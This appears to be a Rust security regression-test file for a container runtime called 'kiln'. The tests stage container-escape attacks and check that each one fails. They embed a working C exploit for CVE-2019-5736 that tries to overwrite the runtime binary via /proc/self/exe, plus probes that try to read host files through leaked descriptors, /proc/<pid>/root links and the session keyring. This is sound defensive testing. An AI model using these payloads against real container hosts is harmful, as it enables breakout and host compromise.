//! Issue 11, runtime process path: each test performs an attack on kiln the way a hostile
//! container would and asserts it fails and the host is unchanged.
//!
//! - CVE-2019-5736: an entrypoint `#!/proc/self/exe` with a malicious "dynamic loader" in the
//!   rootfs tries to rewrite the kiln binary (a copy of it) via `run -d`, `exec -d` and a
//!   foreground `run` whose kiln the container kills.
//! - Leaked descriptors: a host directory fd inherited by kiln, also as `exec --cwd
//!   /proc/self/fd/N`; `--preserve-fds` passes exactly what is asked.
//! - The exec helper: a container process with CAP_SYS_PTRACE watching for new pids cannot reach
//!   host files through /proc/<pid>/root or /proc/<pid>/cwd during `exec`.
//! - Session keyring: a key in the caller's session keyring is not readable in the container.
//! - Signals: `kill -TERM` of a foreground `kiln run` reaches the container process.

mod runtime_support;

use std::fs::File;
use std::io::Read;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use runtime_support::Bundle;
use serde_json::json;

/// A bundle running `args` with a writable root (the tests leave their evidence in it).
fn writable_bundle(args: &[&str]) -> Bundle {
    let mut b = Bundle::new(args);
    b.config["root"]["readonly"] = json!(false);
    b.config["process"]["terminal"] = json!(false);
    b
}

/// Compiles `src` with gcc (`flags` added) into `out`; `None` when gcc is missing (a failure
/// under CI).
fn compile(src: &str, out: &Path, flags: &[&str]) -> Option<()> {
    let c = out.with_extension("c");
    std::fs::write(&c, src).expect("write C source");
    match Command::new("gcc")
        .args(flags)
        .arg("-o")
        .arg(out)
        .arg(&c)
        .output()
    {
        Ok(o) => {
            assert!(
                o.status.success(),
                "gcc failed: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            Some(())
        }
        Err(e) => {
            assert!(
                std::env::var_os("CI").is_none(),
                "gcc is required (scripts/setup installs build-essential): {e}"
            );
            eprintln!("skipping: gcc not found ({e})");
            None
        }
    }
}

/// The ELF interpreter (PT_INTERP) of a binary.
fn interp_of(elf: &Path) -> PathBuf {
    let b = std::fs::read(elf).expect("read elf");
    let u16_at = |o: usize| u16::from_le_bytes([b[o], b[o + 1]]) as usize;
    let u64_at = |o: usize| u64::from_le_bytes(b[o..o + 8].try_into().expect("8 bytes")) as usize;
    let (phoff, phentsize, phnum) = (u64_at(0x20), u16_at(0x36), u16_at(0x38));
    for i in 0..phnum {
        let ph = phoff + i * phentsize;
        if u32::from_le_bytes(b[ph..ph + 4].try_into().expect("4 bytes")) == 3 {
            let (off, size) = (u64_at(ph + 8), u64_at(ph + 32));
            let s = std::str::from_utf8(&b[off..off + size]).expect("utf8 interp");
            return PathBuf::from(s.trim_end_matches('\0'));
        }
    }
    panic!("{} has no PT_INTERP", elf.display());
}

fn sha256(p: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(p)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// A freestanding "dynamic loader": run by the kernel as the interpreter of kiln (re-loaded
/// through `#!/proc/self/exe`), it tries to write /proc/self/exe, then opens it O_PATH and
/// execs itself as `/writer FD` (so that it no longer runs kiln), which keeps reopening
/// /proc/self/fd/FD for writing for 4 s (ETXTBSY clears once kiln exits) and overwrites it,
/// logging to /pwn.log. With /kill-parent in the rootfs it first kills its parent (kiln).
const LOADER: &str = r#"
typedef unsigned long u64;
static long sc(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}
static int slen(const char *s) { int n = 0; while (s[n]) n++; return n; }
static int logfd;
static void say(const char *s) { sc(1, logfd, (long)s, slen(s), 0); }
static void num(long v) {
    char b[24]; int i = 23; b[i] = 0; int neg = v < 0; if (neg) v = -v;
    do { b[--i] = '0' + v % 10; v /= 10; } while (v);
    if (neg) b[--i] = '-';
    say(b + i);
}
static void itoa(long v, char *out) {
    char t[24]; int n = 0; do { t[n++] = '0' + v % 10; v /= 10; } while (v);
    while (n) *out++ = t[--n]; *out = 0;
}
void cmain(long *sp) {
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    logfd = sc(2, (long)"/pwn.log", 02000 | 01 | 0100, 0644, 0); /* O_APPEND|O_WRONLY|O_CREAT */
    if (argc == 2 && argv[1][0] >= '0' && argv[1][0] <= '9') {
        /* Writer: no longer running kiln, so ETXTBSY clears once kiln's processes are gone. */
        char path[40] = "/proc/self/fd/";
        int i = 0; while (argv[1][i]) { path[14 + i] = argv[1][i]; i++; } path[14 + i] = 0;
        long err = 0;
        for (int k = 0; k < 400; k++) {
            long fd = sc(2, (long)path, 01, 0, 0);
            if (fd >= 0) {
                if (sc(18, fd, (long)"PWNED", 5, 0) == 5) { say("WROTE\n"); sc(231, 0, 0, 0, 0); }
                sc(3, fd, 0, 0, 0);
            } else err = fd;
            struct { long s, ns; } ts = { 0, 10000000 };
            sc(35, (long)&ts, 0, 0, 0);
        }
        say("failed "); num(err); say("\n");
        sc(231, 0, 0, 0, 0);
    }
    /* Loader: run by the kernel as the interpreter of kiln, reached through /proc/self/exe. */
    say("start\n");
    if (sc(21, (long)"/kill-parent", 0, 0, 0) == 0) { sc(62, sc(110, 0, 0, 0, 0), 9, 0, 0); }
    long direct = sc(2, (long)"/proc/self/exe", 01, 0, 0);
    if (direct >= 0 && sc(18, direct, (long)"PWNED", 5, 0) == 5) { say("WROTE\n"); sc(231, 0, 0, 0, 0); }
    long pfd = sc(2, (long)"/proc/self/exe", 010000000, 0, 0); /* O_PATH, inherited */
    char num_s[24]; itoa(pfd, num_s);
    char *nargv[3] = { "/writer", num_s, 0 };
    char *nenv[1] = { 0 };
    sc(59, (long)"/writer", (long)nargv, (long)nenv, 0);
    say("failed exec writer\n");
    sc(231, 0, 0, 0, 0);
}
__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n mov %rsp,%rdi\n and $-16,%rsp\n call cmain\n hlt\n");
"#;

/// The CVE-2019-5736 setup: a bundle whose rootfs holds the loader at kiln's PT_INTERP path
/// and `/evil` (`#!/proc/self/exe`), plus a private copy of kiln that is the runtime attacked.
struct Cve {
    b: Bundle,
    kiln: PathBuf,
    before: String,
}

impl Cve {
    fn new(args: &[&str]) -> Option<Cve> {
        let b = writable_bundle(args);
        let kiln = b.sb.dir.path().join("kiln-copy");
        // KILN_ATTACKED_BIN: another kiln build to attack (to see the test catch the bug).
        let src = std::env::var_os("KILN_ATTACKED_BIN")
            .map_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_kiln")), PathBuf::from);
        std::fs::copy(&src, &kiln).expect("copy kiln");
        let rootfs = b.dir.join("rootfs");
        let interp = rootfs.join(interp_of(&kiln).strip_prefix("/").expect("absolute interp"));
        std::fs::create_dir_all(interp.parent().expect("parent")).expect("interp dir");
        let _ = std::fs::remove_file(&interp);
        compile(
            LOADER,
            &interp,
            &[
                "-static",
                "-nostdlib",
                "-fno-stack-protector",
                "-fno-builtin",
                "-O1",
            ],
        )?;
        std::fs::copy(&interp, rootfs.join("writer")).expect("copy writer");
        let evil = rootfs.join("evil");
        std::fs::write(&evil, "#!/proc/self/exe\n").expect("write evil");
        std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let before = sha256(&kiln);
        Some(Cve { b, kiln, before })
    }

    /// Runs the kiln copy with stdio detached.
    fn kiln(&self, args: &[&str]) -> std::process::ExitStatus {
        Command::new(&self.kiln)
            .env("KILN_STORE", self.b.sb.store())
            .env("KILN_RUNTIME", self.b.sb.root())
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("spawn kiln copy")
    }

    /// Waits for the loader to finish, then asserts it ran and the copy is unchanged.
    fn assert_survived(&self) {
        let log = self.b.dir.join("rootfs/pwn.log");
        let deadline = Instant::now() + Duration::from_secs(30);
        let text = loop {
            let t = std::fs::read_to_string(&log).unwrap_or_default();
            if t.contains("failed") || t.contains("WROTE") || Instant::now() > deadline {
                break t;
            }
            std::thread::sleep(Duration::from_millis(100));
        };
        assert!(
            text.contains("start"),
            "the malicious loader never ran: {text:?}"
        );
        assert!(
            !text.contains("WROTE"),
            "the kiln binary was overwritten: {text:?}"
        );
        assert!(
            // -30 = EROFS: the copy kiln runs from is read-only, not merely busy (ETXTBSY).
            text.contains("failed -30"),
            "the loader did not fail on a read-only exe: {text:?}"
        );
        assert_eq!(sha256(&self.kiln), self.before, "the kiln binary changed");
    }
}

#[test]
fn cve_2019_5736_run_detached_cannot_overwrite_kiln() {
    let Some(c) = Cve::new(&["/evil"]) else {
        return;
    };
    c.b.write();
    let bundle = c.b.dir.to_str().expect("utf8").to_string();
    assert!(c
        .kiln(&["run", "-d", "--bundle", &bundle, &c.b.id])
        .success());
    c.assert_survived();
}

#[test]
fn cve_2019_5736_exec_cannot_overwrite_kiln() {
    let Some(c) = Cve::new(&["sleep", "100"]) else {
        return;
    };
    c.b.create();
    c.b.ok(&["start", &c.b.id]);
    assert!(c.kiln(&["exec", "-d", &c.b.id, "/evil"]).success());
    c.assert_survived();
}

#[test]
fn cve_2019_5736_foreground_run_cannot_overwrite_kiln() {
    let Some(mut c) = Cve::new(&["/evil"]) else {
        return;
    };
    // No pid namespace: the loader sees and kills its parent, the foreground kiln.
    let ns = c.b.config["linux"]["namespaces"]
        .as_array_mut()
        .expect("namespaces");
    ns.retain(|n| n["type"] != "pid");
    c.b.write();
    std::fs::write(c.b.dir.join("rootfs/kill-parent"), "").expect("kill-parent");
    let bundle = c.b.dir.to_str().expect("utf8").to_string();
    let st = c.kiln(&["run", "--bundle", &bundle, &c.b.id]);
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&st),
        Some(9),
        "the foreground kiln was not killed by the container ({st})"
    );
    c.assert_survived();
}

/// Opens a host directory holding `secret` and returns it (close-on-exec; `leak` dups it).
fn host_dir(b: &Bundle) -> File {
    let d = b.sb.dir.path().join("host-secret");
    std::fs::create_dir_all(&d).expect("dir");
    std::fs::write(d.join("secret"), "HOST-SECRET").expect("secret");
    File::open(&d).expect("open host dir")
}

/// `kiln ARGS` with each `(from, to)` of `fds` inherited as descriptor `to` without
/// close-on-exec, as a careless caller would leave it.
fn kiln_with_fds(b: &Bundle, args: &[&str], fds: &[(i32, i32)]) -> Output {
    let fds = fds.to_vec();
    let mut cmd = b.sb.kiln();
    cmd.args(args).stdin(Stdio::null());
    // SAFETY: the closure only calls dup2, which is async-signal-safe, on descriptors the test
    // holds open until the child has exec'd.
    unsafe {
        cmd.pre_exec(move || {
            // First out of the way (a source may sit on another's target), then into place:
            // dup2 onto a different number leaves the new descriptor without close-on-exec.
            let mut high = [0; 8];
            for (i, &(from, _)) in fds.iter().enumerate() {
                high[i] = libc::fcntl(from, libc::F_DUPFD_CLOEXEC, 200);
                if high[i] < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            for (i, &(_, to)) in fds.iter().enumerate() {
                if libc::dup2(high[i], to) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
    cmd.output().expect("spawn kiln")
}

#[test]
fn leaked_host_directory_fd_does_not_reach_the_container() {
    let b = writable_bundle(&[
        "sh",
        "-c",
        "cat /proc/self/fd/7/secret; cat /proc/1/fd/7/secret; ls /proc/$$/fd | tr '\\n' ' '",
    ]);
    b.write();
    let dir = host_dir(&b);
    let bundle = b.dir.to_str().expect("utf8").to_string();
    let out = kiln_with_fds(
        &b,
        &["run", "--bundle", &bundle, &b.id],
        &[(dir.as_raw_fd(), 7)],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("HOST-SECRET"),
        "host dir readable in the container: {stdout}"
    );
    let fds: Vec<&str> = stdout.split_whitespace().collect();
    assert!(
        fds.contains(&"0") && !fds.contains(&"7"),
        "descriptors of the container process: {stdout:?}"
    );
}

#[test]
fn exec_cwd_through_a_leaked_fd_is_refused() {
    let b = writable_bundle(&["sleep", "100"]);
    b.create();
    b.ok(&["start", &b.id]);
    let dir = host_dir(&b);
    for cwd in ["/proc/self/fd/7", "/proc/self/fd/7/.."] {
        let out = kiln_with_fds(
            &b,
            &["exec", "--cwd", cwd, &b.id, "cat", "secret"],
            &[(dir.as_raw_fd(), 7)],
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            !out.status.success(),
            "exec --cwd {cwd} succeeded: {stdout}"
        );
        assert!(
            !stdout.contains("HOST-SECRET"),
            "host file read via --cwd {cwd}"
        );
    }
    let out = kiln_with_fds(
        &b,
        &[
            "exec",
            &b.id,
            "sh",
            "-c",
            "cat /proc/self/fd/7/secret; ls /proc/$$/fd | tr '\\n' ' '",
        ],
        &[(dir.as_raw_fd(), 7)],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains("HOST-SECRET"),
        "host dir readable via exec: {stdout}"
    );
    assert!(
        !stdout.split_whitespace().any(|f| f == "7"),
        "fd 7 leaked: {stdout}"
    );
}

#[test]
fn preserve_fds_passes_exactly_the_asked_fds() {
    // readlink does not open descriptors of its own (busybox may run it inside the shell).
    let b = writable_bundle(&[
        "sh",
        "-c",
        "echo to-three >&3; echo to-four >&4; cat /proc/$$/fd/5/secret; \
         for f in 3 4 5; do readlink /proc/$$/fd/$f >/dev/null && echo has-$f; done; true",
    ]);
    b.write();
    let three = b.sb.dir.path().join("three");
    let four = b.sb.dir.path().join("four");
    let f3 = File::create(&three).expect("three");
    let f4 = File::create(&four).expect("four");
    let dir = host_dir(&b);
    let bundle = b.dir.to_str().expect("utf8").to_string();
    let out = kiln_with_fds(
        &b,
        &["run", "--preserve-fds", "2", "--bundle", &bundle, &b.id],
        &[
            (f3.as_raw_fd(), 3),
            (f4.as_raw_fd(), 4),
            (dir.as_raw_fd(), 5),
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "run failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(&three).expect("three"),
        "to-three\n"
    );
    assert_eq!(std::fs::read_to_string(&four).expect("four"), "to-four\n");
    assert!(
        stdout.contains("has-3") && stdout.contains("has-4"),
        "preserved fds missing: {stdout}"
    );
    assert!(
        !stdout.contains("HOST-SECRET"),
        "fd 5 reached the container: {stdout}"
    );
    assert!(
        !stdout.contains("has-5"),
        "fd 5 passed without --preserve-fds covering it: {stdout}"
    );

    // exec --preserve-fds 1: fd 3 passes, fd 4 does not.
    let c = writable_bundle(&["sleep", "100"]);
    c.create();
    c.ok(&["start", &c.id]);
    let out = kiln_with_fds(
        &c,
        &[
            "exec",
            "--preserve-fds",
            "1",
            &c.id,
            "sh",
            "-c",
            "for f in 3 4; do readlink /proc/$$/fd/$f >/dev/null && echo has-$f; done",
        ],
        &[(f3.as_raw_fd(), 3), (f4.as_raw_fd(), 4)],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("has-3") && !stdout.contains("has-4"),
        "exec fds: {stdout}"
    );
}

/// Watches /proc for new pids for `secs` seconds and tries to open a host file through their
/// root and cwd links; logs "seen N" and any "GOT ..." to /watch.log.
const WATCHER: &str = r#"
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
    const char *rootfile = argv[1], *cwdfile = argv[2];
    int secs = atoi(argv[3]);
    char self[16]; snprintf(self, sizeof self, "%d", getpid());
    FILE *log = fopen("/watch.log", "w");
    long seen = 0; int lastpid = 0;
    time_t end = time(NULL) + secs;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || !strcmp(e->d_name, self)) continue;
            if (pid != lastpid) { seen++; lastpid = pid; }
            char p[512];
            snprintf(p, sizeof p, "/proc/%d/root%s", pid, rootfile);
            if (access(p, F_OK) == 0) { fprintf(log, "GOT %s\n", p); fflush(log); }
            snprintf(p, sizeof p, "/proc/%d/cwd/%s", pid, cwdfile);
            if (access(p, F_OK) == 0) { fprintf(log, "GOT %s\n", p); fflush(log); }
        }
        closedir(d);
    }
    fprintf(log, "seen %ld\n", seen);
    fclose(log);
    return 0;
}
"#;

#[test]
fn exec_helper_exposes_no_host_root_or_cwd() {
    let mut b = writable_bundle(&["sleep", "100"]);
    let watcher = b.dir.join("rootfs/watcher");
    if compile(WATCHER, &watcher, &["-static", "-O1"]).is_none() {
        return;
    }
    let caps = [
        "CAP_SYS_PTRACE",
        "CAP_DAC_OVERRIDE",
        "CAP_DAC_READ_SEARCH",
        "CAP_KILL",
    ];
    for set in [
        "bounding",
        "effective",
        "permitted",
        "inheritable",
        "ambient",
    ] {
        b.config["process"]["capabilities"][set] = json!(caps);
    }
    b.create();
    b.ok(&["start", &b.id]);
    // The host file reached through a root link, and one in kiln's cwd reached through cwd.
    let marker = b.sb.dir.path().join("host-only-marker");
    std::fs::write(&marker, "x").expect("marker");
    let cwd = b.sb.dir.path().join("kiln-cwd");
    std::fs::create_dir_all(&cwd).expect("cwd");
    std::fs::write(cwd.join("cwd-marker"), "x").expect("cwd marker");
    let m = marker.to_str().expect("utf8").to_string();
    b.ok_detached(&["exec", "-d", &b.id, "/watcher", &m, "cwd-marker", "8"]);
    std::thread::sleep(Duration::from_millis(300));
    for _ in 0..25 {
        let out =
            b.sb.kiln()
                .current_dir(&cwd)
                .args(["exec", &b.id, "true"])
                .output();
        assert!(out.expect("exec").status.success());
    }
    let log = b.dir.join("rootfs/watch.log");
    let deadline = Instant::now() + Duration::from_secs(20);
    let text = loop {
        let t = std::fs::read_to_string(&log).unwrap_or_default();
        if t.contains("seen") || Instant::now() > deadline {
            break t;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(
        !text.contains("GOT"),
        "host files reached through the exec helper: {text}"
    );
    let seen: u64 = text
        .lines()
        .find_map(|l| l.strip_prefix("seen "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        seen >= 10,
        "the watcher did not see the exec processes: {text:?}"
    );
}

/// Reads key `argv[1]` with keyctl(KEYCTL_READ) and prints its payload or the errno.
const KEYREAD: &str = r#"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char buf[256] = {0};
    long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(argv[1]), buf, sizeof buf - 1);
    if (n < 0) printf("denied %s\n", strerror(errno)); else printf("read %s\n", buf);
    return 0;
}
"#;

#[test]
fn caller_session_keyring_is_not_readable() {
    let b = writable_bundle(&["/keyread", "0"]);
    if compile(KEYREAD, &b.dir.join("rootfs/keyread"), &["-static", "-O1"]).is_none() {
        return;
    }
    // The caller: a process that joins a session keyring of its own, adds a secret key to it
    // (which it can read), puts the key's serial in the config and execs kiln run (keyctl via
    // python's ctypes: add_key = 248, keyctl = 250 on x86_64).
    let desc = runtime_support::unique("kiln-sec-key");
    let bundle = b.dir.to_str().expect("utf8").to_string();
    let py = format!(
        "import ctypes,os,json\nlibc=ctypes.CDLL(None,use_errno=True)\n\
         libc.syscall(250,1,None)\n\
         k=libc.syscall(248,b'user',b'{desc}',b'KEY-SECRET',10,-3)\n\
         assert k>0, os.strerror(ctypes.get_errno())\n\
         buf=ctypes.create_string_buffer(64)\n\
         assert libc.syscall(250,11,k,buf,64)==10, 'owner cannot read the key'\n\
         p='{bundle}/config.json'\nc=json.load(open(p))\nc['process']['args']=['/keyread',str(k)]\n\
         json.dump(c,open(p,'w'))\n\
         os.execv('{kiln}',['kiln','run','--bundle','{bundle}','{id}'])\n",
        kiln = env!("CARGO_BIN_EXE_kiln"),
        id = b.id,
    );
    b.write();
    let out = Command::new("python3")
        .arg("-c")
        .arg(&py)
        .env("KILN_STORE", b.sb.store())
        .env("KILN_RUNTIME", b.sb.root())
        .stdin(Stdio::null())
        .output()
        .expect("python3");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("denied"), "container output: {stdout:?}");
    assert!(
        !stdout.contains("KEY-SECRET"),
        "the caller's key was read: {stdout}"
    );
}

#[test]
fn sigterm_to_foreground_run_reaches_the_container() {
    let b = writable_bundle(&[
        "sh",
        "-c",
        "trap 'echo term > /got-term; exit 3' TERM; echo > /ready; while :; do sleep 0.1; done",
    ]);
    b.write();
    let bundle = b.dir.to_str().expect("utf8").to_string();
    let mut child =
        b.sb.kiln()
            .args(["run", "--bundle", &bundle, &b.id])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn kiln run");
    let rootfs = b.dir.join("rootfs");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !rootfs.join("ready").exists() {
        assert!(Instant::now() < deadline, "container did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    // SAFETY: kill(2) on the pid of our own child.
    assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGTERM) }, 0);
    let status = child.wait().expect("wait kiln");
    let mut err = String::new();
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_string(&mut err);
    }
    assert_eq!(status.code(), Some(3), "kiln exit ({status}): {err}");
    assert_eq!(
        std::fs::read_to_string(rootfs.join("got-term")).unwrap_or_default(),
        "term\n",
        "the container process did not get SIGTERM"
    );
    assert!(!b.sb.root().join(&b.id).exists(), "state left behind");
    assert!(!b.cgroup_dir("pids").exists(), "cgroup left behind");
}

/// `kiln ARGS` with every descriptor above 2 closed, so that nothing of the test's sits in the
/// `--preserve-fds` range.
fn kiln_with_nothing_open(b: &Bundle, args: &[&str]) -> Output {
    let mut cmd = b.sb.kiln();
    cmd.args(args).stdin(Stdio::null());
    // SAFETY: the closure only calls close_range(2), which is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            if libc::syscall(libc::SYS_close_range, 3u32, u32::MAX, 0u32) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd.output().expect("spawn kiln")
}

/// `exec --preserve-fds N` with nothing open in 3..3+N: the exec helper's own descriptors
/// there (its handles of the container's namespaces) must not reach the process.
#[test]
fn exec_preserve_fds_passes_none_of_the_helpers_descriptors() {
    let c = writable_bundle(&["sleep", "100"]);
    c.create();
    c.ok(&["start", &c.id]);
    let out = kiln_with_nothing_open(
        &c,
        &[
            "exec",
            "--preserve-fds",
            "6",
            &c.id,
            "sh",
            "-c",
            "for f in 3 4 5 6 7 8; do readlink /proc/$$/fd/$f >/dev/null && echo has-$f; done; true",
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "exec failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !stdout.contains("has-"),
        "descriptors the caller did not pass reached the process: {stdout}"
    );
}

/// systemd socket activation as runc does it: with `LISTEN_FDS=1` and `LISTEN_PID` naming kiln,
/// fd 3 passes into the container (no `--preserve-fds` needed) with `LISTEN_FDS=1` and
/// `LISTEN_PID=1`; with `LISTEN_PID` naming another process nothing passes.
#[test]
fn listen_fds_pass_like_runc() {
    let b = writable_bundle(&[
        "sh",
        "-c",
        "echo env=$LISTEN_FDS/$LISTEN_PID; echo socket >&3 && echo wrote",
    ]);
    b.write();
    let sock = b.sb.dir.path().join("activated");
    let bundle = b.dir.to_str().expect("utf8").to_string();
    let run = |pid: &str, id: &str| {
        // `exec` keeps the shell's pid, so `$$` is kiln's pid when asked.
        let script = format!("exec 3>\"$0\"; LISTEN_FDS=1 LISTEN_PID={pid} exec \"$@\"");
        let out = std::process::Command::new("sh")
            .args(["-c", &script])
            .arg(&sock)
            .arg(kiln_testkit::common::kiln_bin())
            .args(["run", "--bundle", &bundle, id])
            .env("KILN_STORE", b.sb.store())
            .env("KILN_RUNTIME", b.sb.root())
            .stdin(Stdio::null())
            .output()
            .expect("spawn sh");
        let _ = b.kiln(&["delete", "--force", id]);
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let out = run("$$", &format!("{}-a", b.id));
    assert!(
        out.contains("env=1/1") && out.contains("wrote"),
        "activated: {out}"
    );
    assert_eq!(std::fs::read_to_string(&sock).expect("sock"), "socket\n");
    let out = run("1", &format!("{}-b", b.id));
    assert!(
        out.contains("env=/") && !out.contains("wrote"),
        "LISTEN_PID of another process: {out}"
    );
}

/// A container that joins another's pid namespace is visible there while its init still has
/// the host's root. Container A (root, default capabilities, no user namespace) scans its pid
/// namespace and tries to read a host file through `/proc/<pid>/root` of every process, while
/// container B (a user namespace of its own, joining A's pid namespace) is held mid-setup by a
/// createRuntime hook. A's root owns B's user namespace (kiln made it), so only B's init being
/// non-dumpable until it has pivoted keeps A (without CAP_SYS_PTRACE) out.
#[test]
fn a_create_joining_a_pid_namespace_is_not_reachable_before_it_pivots() {
    let a = writable_bundle(&["sleep", "100"]);
    a.create();
    a.ok(&["start", &a.id]);
    let a_pid = a.state()["pid"].as_i64().expect("pid");
    let mut b = Bundle::new(&["true"]);
    let secret_dir = b.sb.dir.path().join("host-secret");
    std::fs::create_dir_all(&secret_dir).expect("dir");
    let secret = secret_dir.join("secret");
    std::fs::write(&secret, "HOST-SECRET").expect("secret");
    let ns = b.config["linux"]["namespaces"].as_array_mut().expect("ns");
    for n in ns.iter_mut() {
        if n["type"] == "pid" {
            n["path"] = json!(format!("/proc/{a_pid}/ns/pid"));
        }
    }
    ns.push(json!({"type": "user"}));
    b.config["linux"]["uidMappings"] = json!([{"containerID": 0, "hostID": 0, "size": 65536}]);
    b.config["linux"]["gidMappings"] = json!([{"containerID": 0, "hostID": 0, "size": 65536}]);
    // proc of a pid namespace the host's user namespace owns cannot be mounted from B's: B
    // goes without (its setup then fails after the hook, which is all this test needs).
    let mounts: Vec<_> = b.config["mounts"]
        .as_array()
        .expect("mounts")
        .iter()
        .filter(|m| m["destination"] != "/proc")
        .cloned()
        .collect();
    b.config["mounts"] = json!(mounts);
    b.config["linux"]["maskedPaths"] = json!([]);
    b.config["linux"]["readonlyPaths"] = json!([]);
    let in_hook = b.sb.dir.path().join("in-hook");
    let go = b.sb.dir.path().join("go");
    let hook = format!(
        "touch {}; i=0; while [ ! -e {} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done",
        in_hook.display(),
        go.display()
    );
    b.config["hooks"] = json!({"createRuntime": [{"path": "/bin/sh", "args": ["sh", "-c", hook]}]});
    b.write();
    let creating = std::thread::scope(|s| {
        let creating = s.spawn(|| b.try_create(&b.id));
        let deadline = Instant::now() + Duration::from_secs(20);
        while !in_hook.exists() && Instant::now() < deadline && !creating.is_finished() {
            std::thread::sleep(Duration::from_millis(20));
        }
        let scan = format!(
            "for p in /proc/[0-9]*; do grep -q 'cre[a]te' $p/cmdline 2>/dev/null && echo SEEN; \
             cat $p/root{} 2>/dev/null && echo GOT-$p; done; true",
            secret.display()
        );
        let scanned = a.kiln(&["exec", &a.id, "sh", "-c", &scan]);
        let _ = std::fs::write(&go, "");
        let done = creating.join().expect("create thread");
        (in_hook.exists(), scanned, done)
    });
    let (held, scanned, (_, err)) = creating;
    assert!(held, "B never reached its createRuntime hook: {err}");
    let out = String::from_utf8_lossy(&scanned.stdout);
    assert!(
        out.contains("SEEN"),
        "B's init was not visible in A's pid namespace: {out} {}",
        String::from_utf8_lossy(&scanned.stderr)
    );
    assert!(
        !out.contains("HOST-SECRET") && !out.contains("GOT"),
        "A read a host file through B's init: {out}"
    );
}
